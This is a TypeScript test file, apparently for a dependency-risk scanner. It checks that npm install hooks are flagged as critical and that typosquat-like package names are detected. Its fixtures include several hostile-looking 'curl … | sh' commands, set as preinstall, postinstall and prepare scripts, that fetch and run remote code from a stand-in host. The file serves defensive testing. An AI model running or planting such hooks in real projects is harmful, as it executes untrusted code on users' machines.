import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readPackages } from '#engine/mcp-servers/dependencies/read-packages.ts';
import { dependencyRisks } from '#engine/mcp-servers/dependencies/risks.ts';
import { analyseProject } from '#engine/source/analyse-project.ts';
import { eachOnce } from './once.ts';

const found = async (scripts: Record<string, string>, path = 'package.json') => {
  const files = [{ path, text: JSON.stringify({ name: 'x', version: '1.0.0', scripts }, null, 2) }];
  const { observations } = await analyseProject(files);
  const { packages } = readPackages(files);
  return eachOnce(observations, dependencyRisks(packages, files))
    .filter(({ rule }) => rule === 'install-script')
    .map(({ severity, location }) => [severity, location?.startLine]);
};

test('an install hook that two looks find is one finding, the worse one', async () => {
  assert.deepEqual(await found({ postinstall: 'curl -s https://x.example/i.sh | sh' }), [['critical', 5]]);
});

test('two hooks are two findings', async () => {
  const all = await found({
    preinstall: 'curl -s https://x.example/a.sh | sh',
    postinstall: 'curl -s https://x.example/b.sh | sh',
  });
  assert.deepEqual(
    all.map(([severity]) => severity),
    ['critical', 'critical'],
  );
});

test('what only a checkout runs is nothing that a published package does', async () => {
  const prepare = { prepare: 'curl -s https://x.example/hooks.sh | sh' };
  assert.deepEqual(await found(prepare), [['critical', 5]]);
  assert.deepEqual(await found(prepare, 'package/package.json'), []);
  const install = { postinstall: 'curl -s https://x.example/hooks.sh | sh' };
  assert.deepEqual(await found(install, 'package/package.json'), [['critical', 5]]);
});

test('a package that many use is no imitation of another one, and no private one', () => {
  const named = (...names: string[]) => {
    const dependencies = Object.fromEntries(names.map((name) => [name, '1.0.0']));
    const files = [{ path: 'package.json', text: JSON.stringify({ dependencies }) }];
    return dependencyRisks(readPackages(files).packages, files).map(({ subject }) => subject);
  };
  assert.deepEqual(named('preact', 'mssql', 'private-ip'), []);
  assert.deepEqual(named('reacct', 'private-billing'), ['reacct', 'private-billing']);
});
